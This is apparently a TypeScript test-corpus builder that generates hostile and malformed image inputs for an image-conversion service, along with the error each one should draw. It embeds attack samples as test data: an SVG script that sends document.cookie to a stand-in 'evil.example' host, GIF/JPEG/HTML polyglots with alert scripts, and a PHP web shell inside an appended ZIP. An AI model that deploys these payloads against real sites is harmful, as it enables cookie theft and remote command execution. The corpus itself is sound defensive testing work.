// The hostile-input corpus: inputs a client (or an attacker) may send as `image`, each with the
// answer the service must give. Every hostile case must be refused with a 4xx in the error
// envelope, cost nothing and leave the worker serving; every accepted case is odd-looking input
// that legitimately decodes, and must answer 200 (quickly, for the "deep" ones).
//
// Everything is generated, nothing is checked in: valid files come from the service's own
// encoders (src/codecs encodeImage) and are then damaged; the rest is built byte by byte here.
// Random bytes come from a seeded PRNG, so every run (and generate-corpus.ts) sees the same
// corpus.
//
// Runtime-neutral: only web-standard APIs and the codec modules, so the same builder runs
// inside workerd (hostile-inputs.test.ts) and in Node (generate-corpus.ts, which teaches Node
// to load the codecs' .wasm imports).

import { GifWriter } from "omggif";
import { encodeImage, type ImageFormat, type InputFormat, type RasterImage } from "../../src/codecs/index.ts";
import { crc32 } from "../../src/ids/crc32.ts";
import type { ErrorCode } from "../../src/errors.ts";
import { FAKE_IMAGE_ORIGIN } from "../input/fake-image-host.ts";
import { prng } from "../support/prng.ts";
import { ALPHA_HEIC, BT709_STUDIO_HEIC, GRID_HEIC, QUADRANTS_HEIC, TURNED_HEIC } from "../fixtures/heic.ts";
import { readHeifItems } from "../../src/codecs/heif-items.ts";
import { heicGrid, heicInBandSps, heicManyExtents } from "../support/heic-hostile.ts";
import { vp8lCopyBeforeStart, vp8lIncompleteCode, vp8lManyGroups, vp8lStripes } from "./vp8l-streams.ts";

export type CaseGroup =
  | "colour"
  | "empty"
  | "random"
  | "signature-only"
  | "truncated"
  | "wrong-magic"
  | "polyglot"
  | "bomb"
  | "malformed-header"
  | "deep"
  | "base64"
  | "svg"
  | "url";

interface CaseBase {
  /** Unique, file-name safe. */
  name: string;
  group: CaseGroup;
  /** Why this input is interesting, and why the expected answer is the right one. */
  why: string;
  /** Exactly what is sent as `image`: a data URI, bare base64 or an https URL. */
  image: string;
  /** The raw file, when there is one (the generator writes it); absent for URL and text-only cases. */
  bytes?: Uint8Array;
  /** File extension for the raw file. */
  ext?: string;
}

export interface HostileCase extends CaseBase {
  expect: { status: 400 | 413; code: ErrorCode | ErrorCode[] };
  /**
   * A limit of one target rather than of the input: the case is sent to convert-format for this
   * target only (both families, where the target is offered there).
   */
  target?: ImageFormat;
  /** The header decides it, so it is refused in prepare: nothing deducted (not a refund). */
  beforeCharge?: true;
}

export interface AcceptedCase extends CaseBase {
  expect: { status: 200; originalFormat: InputFormat };
  /** Wall-clock budget for one call, for the inputs that exist to make the worker do extra work. */
  maxMs?: number;
  /** Smuggled payloads (script, PHP, ZIP) that must not survive into the re-encoded output. */
  mustNotSurvive?: string[];
}

export interface Corpus {
  hostile: HostileCase[];
  accepted: AcceptedCase[];
}

// ---------------------------------------------------------------------------------------------
// Byte helpers

const encoder = new TextEncoder();

export function ascii(text: string): Uint8Array {
  return encoder.encode(text);
}

export function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

function u16le(v: number): Uint8Array {
  return new Uint8Array([v & 0xff, (v >>> 8) & 0xff]);
}
function u32le(v: number): Uint8Array {
  const out = new Uint8Array(4);
  new DataView(out.buffer).setUint32(0, v >>> 0, true);
  return out;
}
function i32le(v: number): Uint8Array {
  const out = new Uint8Array(4);
  new DataView(out.buffer).setInt32(0, v, true);
  return out;
}
function u32be(v: number): Uint8Array {
  const out = new Uint8Array(4);
  new DataView(out.buffer).setUint32(0, v >>> 0, false);
  return out;
}
function u16be(v: number): Uint8Array {
  return new Uint8Array([(v >>> 8) & 0xff, v & 0xff]);
}
function u24le(v: number): Uint8Array {
  return new Uint8Array([v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff]);
}

/** Standard base64 (btoa exists in Node and workerd). */
export function base64(bytes: Uint8Array): string {
  let out = "";
  for (let i = 0; i < bytes.length; i += 0x6000) out += btoa(String.fromCharCode(...bytes.subarray(i, i + 0x6000)));
  return out;
}

function base64url(bytes: Uint8Array): string {
  return base64(bytes).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
}

export function dataUri(mime: string, bytes: Uint8Array): string {
  return `data:${mime};base64,${base64(bytes)}`;
}

export function randomBytes(length: number, seed: number): Uint8Array {
  const next = prng(seed);
  const out = new Uint8Array(length);
  for (let i = 0; i < length; i++) out[i] = Math.floor(next() * 256);
  return out;
}

/** A copy of `bytes` with `patch` written at `offset`. */
function patched(bytes: Uint8Array, offset: number, patch: Uint8Array): Uint8Array {
  const out = bytes.slice();
  out.set(patch, offset);
  return out;
}

// ---------------------------------------------------------------------------------------------
// Format builders (hand-made files for layouts the encoders never write)

/** A smooth opaque gradient with seeded noise: a realistic, incompressible-ish photo stand-in. */
export function sourceImage(width = 48, height = 32, seed = 1): RasterImage {
  const next = prng(seed);
  const data = new Uint8ClampedArray(width * height * 4);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const o = (y * width + x) * 4;
      const noise = Math.floor(next() * 24) - 12;
      data[o] = Math.round((x / (width - 1)) * 255) + noise;
      data[o + 1] = Math.round((y / (height - 1)) * 255) - noise;
      data[o + 2] = 120 + noise;
      data[o + 3] = 255;
    }
  }
  return { width, height, data };
}

function pngChunk(type: string, data: Uint8Array): Uint8Array {
  const typeBytes = ascii(type);
  return concat(u32be(data.length), typeBytes, data, u32be(crc32(typeBytes, data)));
}

const PNG_SIGNATURE = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function ihdr(width: number, height: number, bitDepth = 8, colorType = 6): Uint8Array {
  return pngChunk("IHDR", concat(u32be(width), u32be(height), new Uint8Array([bitDepth, colorType, 0, 0, 0])));
}

/** zlib (RFC 1950) through the runtime's CompressionStream, which both runtimes have. */
async function zlib(parts: () => AsyncGenerator<Uint8Array> | Generator<Uint8Array>): Promise<Uint8Array> {
  const stream = new CompressionStream("deflate");
  const writer = stream.writable.getWriter();
  const collected = new Response(stream.readable).arrayBuffer();
  for await (const part of parts()) {
    await writer.ready;
    await writer.write(part);
  }
  await writer.close();
  return new Uint8Array(await collected);
}

/** A PNG header only: signature + IHDR (no pixel data, no IEND). */
function pngHeaderOnly(width: number, height: number): Uint8Array {
  return concat(PNG_SIGNATURE, ihdr(width, height));
}

/** GIF logical screen with a 4-colour global palette. */
function gifScreen(width: number, height: number): Uint8Array {
  return concat(ascii("GIF89a"), u16le(width), u16le(height), new Uint8Array([0x81, 0, 0]), new Uint8Array([0, 0, 0, 255, 0, 0, 0, 255, 0, 0, 0, 255]));
}

/** Image descriptor (no local palette) followed by LZW data for one pixel of index 0. */
function gifOnePixelFrame(x: number, y: number, width: number, height: number): Uint8Array {
  // min code size 2; codes clear(4), 0, end(5) at 3 bits each, packed LSB first: 0x44 0x01.
  return concat(new Uint8Array([0x2c]), u16le(x), u16le(y), u16le(width), u16le(height), new Uint8Array([0, 2, 2, 0x44, 0x01, 0]));
}

function gifComment(text: string): Uint8Array {
  const data = ascii(text);
  const blocks: Uint8Array[] = [];
  for (let i = 0; i < data.length; i += 255) {
    const piece = data.subarray(i, i + 255);
    blocks.push(new Uint8Array([piece.length]), piece);
  }
  return concat(new Uint8Array([0x21, 0xfe]), ...blocks, new Uint8Array([0]));
}

const GIF_TRAILER = new Uint8Array([0x3b]);

/** An animation of `frames` 1x1 frames wandering over a small screen, written by omggif. */
function deepGif(frames: number, side = 8): Uint8Array {
  const buffer = new Uint8Array(1024 + frames * 32);
  const writer = new GifWriter(buffer, side, side, { palette: [0xff0000, 0x00ff00, 0x0000ff, 0xffffff], loop: 0 });
  for (let k = 0; k < frames; k++) writer.addFrame(k % side, Math.floor(k / side) % side, 1, 1, [k % 4], { delay: 1 });
  return buffer.slice(0, writer.end());
}

/** BMP file + BITMAPINFOHEADER (40 bytes), then whatever follows. */
function bmpHeader(options: { width: number; height: number; bitCount?: number; compression?: number; pixelOffset?: number; fileSize?: number }): Uint8Array {
  const { width, height, bitCount = 24, compression = 0, pixelOffset = 54, fileSize = 54 } = options;
  return concat(
    ascii("BM"),
    u32le(fileSize),
    u32le(0),
    u32le(pixelOffset),
    u32le(40),
    i32le(width),
    i32le(height),
    u16le(1),
    u16le(bitCount),
    u32le(compression),
    u32le(0),
    u32le(2835),
    u32le(2835),
    u32le(0),
    u32le(0),
  );
}

type TiffEntry = [tag: number, type: 3 | 4, values: number[]];

/** In a TIFF entry value: the offset of the tail bytes. */
const TAIL = -1;
/** In a TIFF entry value: the offset of IFD number k. */
const ifdRef = (k: number) => -100 - k;

/**
 * A little-endian TIFF with IFDs written in order from offset 8; each IFD may name any next-IFD
 * offset (for loops) and out-of-line values follow each IFD. `tail` bytes go last. Entry values
 * may be TAIL or ifdRef(k), replaced by those offsets.
 */
function tiff(ifds: { entries: TiffEntry[]; next?: number | "following" }[], tail: Uint8Array = new Uint8Array(0)): Uint8Array {
  const sizeOf = (ifd: { entries: TiffEntry[] }) =>
    2 + ifd.entries.length * 12 + 4 + ifd.entries.reduce((n, [, type, values]) => n + ((type === 3 ? 2 : 4) * values.length > 4 ? (type === 3 ? 2 : 4) * values.length : 0), 0);
  const starts: number[] = [];
  let at = 8;
  for (const ifd of ifds) {
    starts.push(at);
    at += sizeOf(ifd);
  }
  const tailAt = at;
  const out = new Uint8Array(at + tail.length);
  const v = new DataView(out.buffer);
  out.set([0x49, 0x49, 42, 0]);
  v.setUint32(4, 8, true);
  ifds.forEach((ifd, index) => {
    const start = starts[index]!;
    const sorted = [...ifd.entries].sort((a, b) => a[0] - b[0]);
    v.setUint16(start, sorted.length, true);
    let extra = start + 2 + sorted.length * 12 + 4;
    sorted.forEach(([tag, type, values], i) => {
      const e = start + 2 + i * 12;
      v.setUint16(e, tag, true);
      v.setUint16(e + 2, type, true);
      v.setUint32(e + 4, values.length, true);
      const size = (type === 3 ? 2 : 4) * values.length;
      let target = e + 8;
      if (size > 4) {
        v.setUint32(e + 8, extra, true);
        target = extra;
        extra += size;
      }
      values.forEach((n, k) => {
        const value = n === TAIL ? tailAt : n <= -100 ? starts[-100 - n]! : n;
        if (type === 3) v.setUint16(target + k * 2, value, true);
        else v.setUint32(target + k * 4, value >>> 0, true);
      });
    });
    const next = ifd.next === "following" ? (starts[index + 1] ?? 0) : (ifd.next ?? 0);
    v.setUint32(start + 2 + sorted.length * 12, next, true);
  });
  out.set(tail, tailAt);
  return out;
}

/** The baseline tags of an uncompressed 8-bit RGB image stored in one strip at the tail. */
function rawRgbEntries(width: number, height: number): TiffEntry[] {
  return [
    [256, 4, [width]],
    [257, 4, [height]],
    [258, 3, [8, 8, 8]],
    [259, 3, [1]],
    [262, 3, [2]],
    [273, 4, [TAIL]],
    [277, 3, [3]],
    [278, 4, [height]],
    [279, 4, [width * height * 3]],
  ];
}

function riffChunk(fourcc: string, payload: Uint8Array): Uint8Array {
  return concat(ascii(fourcc), u32le(payload.length), payload, payload.length & 1 ? new Uint8Array(1) : new Uint8Array(0));
}

function riffWebp(...chunks: Uint8Array[]): Uint8Array {
  const body = concat(ascii("WEBP"), ...chunks);
  return concat(ascii("RIFF"), u32le(body.length), body);
}

/** RIFF chunks of a WebP as [fourcc, payload]. */
function webpChunks(webp: Uint8Array): [string, Uint8Array][] {
  const v = new DataView(webp.buffer, webp.byteOffset, webp.byteLength);
  const out: [string, Uint8Array][] = [];
  for (let at = 12; at + 8 <= webp.length; ) {
    const size = v.getUint32(at + 4, true);
    out.push([String.fromCharCode(...webp.subarray(at, at + 4)), webp.subarray(at + 8, at + 8 + size)]);
    at += 8 + size + (size & 1);
  }
  return out;
}

/** Offset of the first occurrence of `needle` in `haystack`, or -1. */
function find(haystack: Uint8Array, needle: Uint8Array | string, from = 0): number {
  const n = typeof needle === "string" ? ascii(needle) : needle;
  outer: for (let i = from; i + n.length <= haystack.length; i++) {
    for (let j = 0; j < n.length; j++) if (haystack[i + j] !== n[j]) continue outer;
    return i;
  }
  return -1;
}

/** Offset of the first JPEG marker `marker` (FF xx) after SOI, walking segments. */
function jpegMarker(jpeg: Uint8Array, marker: number): number {
  for (let at = 2; at + 4 <= jpeg.length; ) {
    if (jpeg[at] !== 0xff) return -1;
    if (jpeg[at + 1] === marker) return at;
    at += 2 + ((jpeg[at + 2]! << 8) | jpeg[at + 3]!);
  }
  return -1;
}

function jpegSegment(marker: number, payload: Uint8Array): Uint8Array {
  return concat(new Uint8Array([0xff, marker]), u16be(payload.length + 2), payload);
}

/** Rewrites the SOFn frame size of a JPEG (height then width, big-endian, after precision). */
function jpegWithFrameSize(jpeg: Uint8Array, width: number, height: number): Uint8Array {
  for (const sof of [0xc0, 0xc1, 0xc2]) {
    const at = jpegMarker(jpeg, sof);
    if (at >= 0) return patched(jpeg, at + 5, concat(u16be(height), u16be(width)));
  }
  throw new Error("no SOF marker in the encoder's JPEG");
}

/** The AVIF `ispe` property's width/height fields, rewritten. */
/** A grid HEIC with the first NAL length of its first tile (item 2) rewritten. */
function withFirstTileNalLength(heic: Uint8Array, length: number): Uint8Array {
  const out = heic.slice();
  const at = readHeifItems(out).items.get(2)!.extents[0]!.offset;
  new DataView(out.buffer).setUint32(at, length);
  return out;
}

/** Every ispe (image size) property rewritten: HEIC files may size a derived and a coded item. */
function withIspe(heif: Uint8Array, width: number, height: number): Uint8Array {
  let out = heif;
  for (let at = find(heif, "ispe"); at >= 0; at = find(heif, "ispe", at + 4)) {
    // box type, then version+flags (4), then width (4) and height (4), big-endian.
    out = patched(out, at + 8, concat(u32be(width), u32be(height)));
  }
  if (out === heif) throw new Error("no ispe box in the HEIF file");
  return out;
}

/** The nclx colour box's matrix_coefficients rewritten (the file's first nclx box). */
function withNclxMatrix(heif: Uint8Array, matrix: number): Uint8Array {
  const at = find(heif, "nclx");
  if (at < 0) throw new Error("no nclx box in the HEIF file");
  return patched(heif, at + 8, new Uint8Array([matrix >> 8, matrix & 0xff]));
}

/** The auxC box's NUL after its URN replaced by a letter: the string has no end inside the box. */
function withLongAuxiliaryUrn(heif: Uint8Array): Uint8Array {
  const at = find(heif, "auxC");
  if (at < 0) throw new Error("no auxC box in the HEIF file");
  const urnStart = at + 8;
  const nul = heif.indexOf(0, urnStart);
  return patched(heif, nul, new Uint8Array([0x78]));
}

function fakeUrl(path: string): string {
  return `${FAKE_IMAGE_ORIGIN}${path}`;
}

/** A URL on the fake image host that answers with exactly these bytes and this Content-Type. */
export function echoUrl(bytes: Uint8Array, contentType: string): string {
  return fakeUrl(`/echo?type=${encodeURIComponent(contentType)}&b64=${base64url(bytes)}`);
}

// ---------------------------------------------------------------------------------------------
// The corpus

const MIME: Record<InputFormat, string> = {
  png: "image/png",
  jpeg: "image/jpeg",
  webp: "image/webp",
  avif: "image/avif",
  gif: "image/gif",
  bmp: "image/bmp",
  tiff: "image/tiff",
  heic: "image/heic",
};
const EXT: Record<InputFormat, string> = { png: "png", jpeg: "jpg", webp: "webp", avif: "avif", gif: "gif", bmp: "bmp", tiff: "tiff", heic: "heic" };

/** Base64 text to bytes with web-standard APIs only (the corpus also runs in workerd). */
function fromBase64(text: string): Uint8Array {
  return Uint8Array.from(atob(text), (char) => char.charCodeAt(0));
}

/** The SVG every SVG case carries: a script element and an event handler. */
const SVG_WITH_SCRIPT =
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)">' +
  '<script type="application/ecmascript">fetch("https://evil.example/"+document.cookie)</script>' +
  '<rect width="64" height="64" fill="red"/></svg>';

export async function buildCorpus(): Promise<Corpus> {
  const hostile: HostileCase[] = [];
  const accepted: AcceptedCase[] = [];
  const names = new Set<string>();
  const unique = (name: string) => {
    if (names.has(name)) throw new Error(`duplicate corpus case name ${name}`);
    names.add(name);
    return name;
  };
  const bad = (c: Omit<HostileCase, "name"> & { name: string }) => hostile.push({ ...c, name: unique(c.name) });
  const ok = (c: Omit<AcceptedCase, "name"> & { name: string }) => accepted.push({ ...c, name: unique(c.name) });
  /** Raw bytes sent as a data URI of `mime`. */
  const file = (bytes: Uint8Array, mime: string, ext: string) => ({ bytes, ext, image: dataUri(mime, bytes) });
  /** Raw bytes sent as bare base64. */
  const bare = (bytes: Uint8Array, ext: string) => ({ bytes, ext, image: base64(bytes) });
  const text = (image: string) => ({ image, bytes: ascii(image), ext: "txt" });

  const INVALID = { status: 400, code: "invalid_image" } as const;
  const UNSUPPORTED = { status: 400, code: "unsupported_image_format" } as const;
  const TOO_LARGE = { status: 400, code: "image_too_large" } as const;
  const FETCH_FAILED = { status: 400, code: "image_fetch_failed" } as const;
  const BAD_PARAM = { status: 400, code: "invalid_parameter" } as const;
  const MISSING = { status: 400, code: "missing_parameter" } as const;

  // Valid files from the service's own encoders: the raw material for the damaged ones.
  const source = sourceImage();
  const valid = {} as Record<InputFormat, Uint8Array>;
  for (const format of ["png", "jpeg", "webp", "avif", "gif", "bmp", "tiff"] as const) valid[format] = await encodeImage(source, format);
  // Nothing here writes HEIC: a small file made by heif-enc (test/fixtures/heic.ts) stands in.
  valid.heic = fromBase64(QUADRANTS_HEIC);
  const heic = valid.heic;
  const { png, jpeg, webp, avif, gif, bmp } = valid;

  // --- empty and tiny ----------------------------------------------------------------------
  bad({ name: "zero-bytes-data-uri", group: "empty", why: "A data URI whose payload is empty: zero bytes of image.", ...file(new Uint8Array(0), "image/png", "png"), expect: INVALID });
  bad({ name: "zero-bytes-bare", group: "empty", why: "An empty string: no image at all.", bytes: new Uint8Array(0), ext: "bin", image: "", expect: MISSING });
  bad({ name: "whitespace-only", group: "empty", why: "Only whitespace, which trims to nothing.", ...text(" \n\t  \r\n "), expect: MISSING });
  bad({ name: "one-byte", group: "empty", why: "A single byte (the first byte of a PNG signature).", ...bare(new Uint8Array([0x89]), "bin"), expect: UNSUPPORTED });
  bad({ name: "one-byte-ff-as-jpeg", group: "empty", why: "A single 0xFF declared as JPEG: not even a full SOI marker.", ...file(new Uint8Array([0xff]), "image/jpeg", "jpg"), expect: UNSUPPORTED });

  // --- random ----------------------------------------------------------------------------
  const random4k = randomBytes(4096, 0xc0ffee);
  bad({ name: "random-4k-bare", group: "random", why: "4 KB of seeded random bytes as bare base64: no format's magic.", ...bare(random4k, "bin"), expect: UNSUPPORTED });
  bad({ name: "random-64k-declared-png", group: "random", why: "64 KB of random bytes claiming image/png: the declared type is not trusted.", ...file(randomBytes(65536, 7), "image/png", "bin"), expect: UNSUPPORTED });
  bad({ name: "all-zero-1k", group: "random", why: "1 KB of zero bytes.", ...bare(new Uint8Array(1024), "bin"), expect: UNSUPPORTED });
  bad({ name: "all-ff-1k-as-jpeg", group: "random", why: "1 KB of 0xFF claiming JPEG: fill bytes, never an SOI.", ...file(new Uint8Array(1024).fill(0xff), "image/jpeg", "bin"), expect: UNSUPPORTED });

  // --- only a signature ----------------------------------------------------------------------
  bad({ name: "png-signature-only", group: "signature-only", why: "The 8-byte PNG signature and nothing else.", ...file(PNG_SIGNATURE, "image/png", "png"), expect: INVALID });
  bad({ name: "jpeg-soi-only", group: "signature-only", why: "FF D8 FF: a JPEG start and nothing else.", ...file(new Uint8Array([0xff, 0xd8, 0xff]), "image/jpeg", "jpg"), expect: INVALID });
  bad({ name: "jpeg-soi-eoi", group: "signature-only", why: "SOI immediately followed by EOI: a JPEG with no frame.", ...file(new Uint8Array([0xff, 0xd8, 0xff, 0xd9]), "image/jpeg", "jpg"), expect: INVALID });
  bad({ name: "gif-signature-only", group: "signature-only", why: "\"GIF89a\" and nothing else.", ...file(ascii("GIF89a"), "image/gif", "gif"), expect: INVALID });
  bad({ name: "webp-riff-header-only", group: "signature-only", why: "A RIFF/WEBP header with no chunks.", ...file(concat(ascii("RIFF"), u32le(4), ascii("WEBP")), "image/webp", "webp"), expect: INVALID });
  bad({ name: "tiff-header-only", group: "signature-only", why: "The TIFF byte-order mark and magic, no IFD offset.", ...file(ascii("II*\0"), "image/tiff", "tiff"), expect: INVALID });
  bad({ name: "bmp-magic-only", group: "signature-only", why: "\"BM\" alone is not enough to call anything a BMP.", ...file(ascii("BM"), "image/bmp", "bmp"), expect: UNSUPPORTED });
  bad({ name: "avif-ftyp-only", group: "signature-only", why: "An ftyp box naming avif, with no meta box (so no size).", ...file(concat(u32be(20), ascii("ftypavif"), u32be(0), ascii("avif")), "image/avif", "avif"), expect: INVALID });

  // --- truncated (valid encoder output, cut short) -------------------------------------------
  // The cut points: inside the header (refused before any charge) and inside the pixel data
  // (passes the header checks, so it is charged, fails at decode and is refunded).
  const cuts: [InputFormat, string, number, HostileCase["expect"]?][] = [
    ["png", "in-ihdr", 20],
    ["png", "after-ihdr", 41],
    ["png", "half", Math.floor(png.length / 2)],
    ["png", "no-iend", png.length - 12],
    ["jpeg", "in-headers", 40],
    ["jpeg", "half", Math.floor(jpeg.length / 2)],
    ["jpeg", "no-eoi", jpeg.length - 2],
    ["webp", "in-vp8-header", 24],
    ["webp", "half", Math.floor(webp.length / 2)],
    ["webp", "last-byte", webp.length - 1],
    // Shorter than an ftyp box: nothing recognisable is left.
    ["avif", "in-ftyp", 12, UNSUPPORTED],
    ["avif", "in-meta", 64],
    ["avif", "half", Math.floor(avif.length / 2)],
    ["avif", "last-byte", avif.length - 1],
    ["gif", "in-screen", 9],
    ["gif", "in-lzw-data", Math.floor(gif.length / 2)],
    ["tiff", "in-ifd", 100],
    ["tiff", "half", Math.floor(valid.tiff.length / 2)],
    ["tiff", "last-byte", valid.tiff.length - 1],
    ["bmp", "in-info-header", 30],
    ["bmp", "half", Math.floor(bmp.length / 2)],
    ["bmp", "last-byte", bmp.length - 1],
    ["heic", "in-ftyp", 12, UNSUPPORTED],
    ["heic", "in-meta", 64],
    ["heic", "half", Math.floor(heic.length / 2)],
    // The header is whole: refused by libheif itself, after the charge, and refunded.
    ["heic", "last-byte", heic.length - 1],
  ];
  for (const [format, where, at, expect = INVALID] of cuts) {
    bad({
      name: `truncated-${format}-${where}`,
      group: "truncated",
      why: `A valid ${format.toUpperCase()} from our encoder (${valid[format].length} bytes) cut to ${at} bytes (${where}).`,
      ...file(valid[format].subarray(0, at), MIME[format], EXT[format]),
      expect,
    });
  }
  {
    // Our encoder writes JPEG-compressed TIFF; an uncompressed one (read by utif2) cut in half.
    const raw = new Uint8Array(48 * 32 * 3);
    for (let i = 0; i < 48 * 32; i++) raw.set(source.data.subarray(i * 4, i * 4 + 3), i * 3);
    const whole = tiff([{ entries: rawRgbEntries(48, 32) }], raw);
    bad({
      name: "truncated-tiff-uncompressed-half",
      group: "truncated",
      why: `An uncompressed 48x32 RGB TIFF (${whole.length} bytes) cut in half: half of its only strip is missing.`,
      ...file(whole.subarray(0, Math.floor(whole.length / 2)), "image/tiff", "tiff"),
      expect: INVALID,
    });
  }
  ok({
    name: "gif-without-trailer",
    group: "truncated",
    why: "A complete GIF missing only its one-byte trailer: every pixel is there, and the first frame is all that is read, so it decodes.",
    ...file(gif.subarray(0, gif.length - 1), "image/gif", "gif"),
    expect: { status: 200, originalFormat: "gif" },
  });

  ok({
    name: "heic-irot-declared-as-jpeg",
    group: "wrong-magic",
    why: "A HEIC turned by an irot property, sent as data:image/jpeg: sniffed as HEIC, decoded upright.",
    ...file(fromBase64(TURNED_HEIC), "image/jpeg", "heic"),
    expect: { status: 200, originalFormat: "heic" },
  });

  ok({
    name: "heic-nclx-identity-matrix",
    group: "colour",
    why: "A HEIC whose nclx box names the identity (GBR) matrix, which the YCbCr planes path does not convert: libheif's RGB decode takes it.",
    ...file(withNclxMatrix(fromBase64(BT709_STUDIO_HEIC), 0), "image/heic", "heic"),
    expect: { status: 200, originalFormat: "heic" },
  });

  bad({
    name: "heic-alpha-auxiliary-urn-unterminated",
    group: "malformed-header",
    why: "A HEIC with an alpha plane whose auxC URN has no NUL before its box ends: our header read stops at the box, libheif refuses the file.",
    ...file(withLongAuxiliaryUrn(fromBase64(ALPHA_HEIC)), "image/heic", "heic"),
    expect: INVALID,
  });

  // Grid HEICs (a phone's layout) go through our own HEVC decoder a row of tiles at a time.
  const grid = fromBase64(GRID_HEIC);
  bad({
    name: "truncated-heic-grid-in-last-tile",
    group: "truncated",
    why: `A grid HEIC (${grid.length} bytes, four HEVC tiles) cut by one byte: the last tile's data is short, which our tile reader finds before decoding it.`,
    ...file(grid.subarray(0, grid.length - 1), "image/heic", "heic"),
    expect: INVALID,
  });
  bad({
    name: "heic-grid-tile-nal-length-past-end",
    group: "malformed-header",
    why: "A grid HEIC whose first tile's first NAL unit claims 4 GB: the HEVC binding refuses it before pushing anything to libde265.",
    ...file(withFirstTileNalLength(grid, 0xffffffff), "image/heic", "heic"),
    expect: INVALID,
  });

  // --- wrong magic --------------------------------------------------------------------------
  ok({
    name: "png-declared-as-jpeg",
    group: "wrong-magic",
    why: "A valid PNG sent as data:image/jpeg: the declared type is ignored and the bytes are sniffed, so it works.",
    ...file(png, "image/jpeg", "png"),
    expect: { status: 200, originalFormat: "png" },
  });
  bad({ name: "jpeg-magic-png-body", group: "wrong-magic", why: "FF D8 FF in front of a whole PNG: sniffs as JPEG, the marker structure is garbage.", ...file(concat(new Uint8Array([0xff, 0xd8, 0xff]), png), "image/jpeg", "jpg"), expect: INVALID });
  bad({ name: "png-magic-jpeg-body", group: "wrong-magic", why: "A PNG signature in front of a whole JPEG: no IHDR follows.", ...file(concat(PNG_SIGNATURE, jpeg), "image/png", "png"), expect: INVALID });
  bad({ name: "gif-magic-png-body", group: "wrong-magic", why: "The GIF89a signature in place of a PNG's first six bytes.", ...file(concat(ascii("GIF89a"), png.subarray(6)), "image/gif", "gif"), expect: INVALID });
  bad({ name: "riff-wave", group: "wrong-magic", why: "A RIFF WAVE audio header claiming image/webp.", ...file(concat(ascii("RIFF"), u32le(36), ascii("WAVEfmt "), u32le(16), randomBytes(16, 3)), "image/webp", "wav"), expect: UNSUPPORTED });
  bad({ name: "mp4-ftyp", group: "wrong-magic", why: "An ISO-BMFF ftyp of an MP4 (isom/mp42) claiming image/avif.", ...file(concat(u32be(24), ascii("ftypisom"), u32be(512), ascii("isomiso2mp41"), u32be(8), ascii("free")), "image/avif", "mp4"), expect: UNSUPPORTED });
  bad({ name: "heic-ftyp-only", group: "signature-only", why: "A HEIC ftyp box and a free box: recognised as HEIC, but there is no meta box, so no size.", ...file(concat(u32be(24), ascii("ftypheic"), u32be(0), ascii("mif1heic"), u32be(8), ascii("free")), "image/heic", "heic"), expect: INVALID });
  bad({ name: "pdf", group: "wrong-magic", why: "A PDF header claiming image/png.", ...file(ascii("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"), "image/png", "pdf"), expect: UNSUPPORTED });
  bad({ name: "zip", group: "wrong-magic", why: "A ZIP local file header claiming image/png.", ...file(concat(ascii("PK\x03\x04"), randomBytes(60, 5)), "image/png", "zip"), expect: UNSUPPORTED });
  bad({ name: "bigtiff", group: "wrong-magic", why: "A BigTIFF header (version 43), which is not read.", ...file(concat(ascii("II+\0"), u16le(8), u16le(0), u32le(16), u32le(0)), "image/tiff", "tiff"), expect: UNSUPPORTED });
  bad({ name: "windows-exe", group: "wrong-magic", why: "An MZ executable header claiming image/gif.", ...file(concat(ascii("MZ"), randomBytes(126, 9)), "image/gif", "exe"), expect: UNSUPPORTED });
  bad({
    name: "webp-vp8-garbage",
    group: "wrong-magic",
    why: "RIFF/WEBP with a VP8 chunk full of random bytes: no VP8 start code.",
    ...file(riffWebp(riffChunk("VP8 ", randomBytes(200, 11))), "image/webp", "webp"),
    expect: INVALID,
  });

  // --- polyglots -----------------------------------------------------------------------------
  bad({
    name: "gif-js-polyglot",
    group: "polyglot",
    why: "The classic GIF/JavaScript polyglot: GIF89a followed by /*...*/=alert(1): the screen size bytes are a JS comment opener.",
    ...file(ascii("GIF89a/*\x00\x00\x00\x00*/=alert(document.domain);//"), "image/gif", "gif"),
    expect: INVALID,
  });
  bad({
    name: "gif-magic-html-page",
    group: "polyglot",
    why: "An HTML page with a script behind GIF89a, as sent to sniffing browsers.",
    ...file(ascii("GIF89a<html><body><script>alert(document.cookie)</script></body></html>"), "image/gif", "gif"),
    expect: INVALID,
  });
  bad({
    name: "html-page",
    group: "polyglot",
    why: "A plain HTML page (with an inline <svg>) claiming image/png: text, not an image.",
    ...file(ascii('<!doctype html><html><body><svg xmlns="http://www.w3.org/2000/svg"></svg><script>alert(1)</script></body></html>'), "image/png", "html"),
    expect: UNSUPPORTED,
  });
  bad({
    name: "jpeg-magic-html",
    group: "polyglot",
    why: "FF D8 FF followed by an HTML page.",
    ...file(concat(new Uint8Array([0xff, 0xd8, 0xff]), ascii("<html><script>alert(1)</script></html>")), "image/jpeg", "jpg"),
    expect: INVALID,
  });
  const zip = concat(ascii("PK\x03\x04"), new Uint8Array(26), ascii("payload.php<?php system($_GET['c']); ?>"), ascii("PK\x05\x06"), new Uint8Array(18));
  ok({
    name: "png-with-appended-zip",
    group: "polyglot",
    why: "A valid PNG with a ZIP (holding PHP) appended after IEND: decoders stop at IEND, and the output is re-encoded from pixels, so nothing of the ZIP survives.",
    ...file(concat(png, zip), "image/png", "png"),
    expect: { status: 200, originalFormat: "png" },
    mustNotSurvive: ["PK\x03\x04", "<?php"],
  });
  ok({
    name: "png-trailing-garbage",
    group: "polyglot",
    why: "A valid PNG followed by 2 KB of random bytes: trailing data after IEND is ignored.",
    ...file(concat(png, randomBytes(2048, 13)), "image/png", "png"),
    expect: { status: 200, originalFormat: "png" },
  });
  ok({
    name: "jpeg-comment-script",
    group: "polyglot",
    why: "A valid JPEG whose COM segment holds <script>: metadata the decoder skips and the encoder never writes.",
    ...file(concat(jpeg.subarray(0, 2), jpegSegment(0xfe, ascii("<script>alert(document.cookie)</script>")), jpeg.subarray(2)), "image/jpeg", "jpg"),
    expect: { status: 200, originalFormat: "jpeg" },
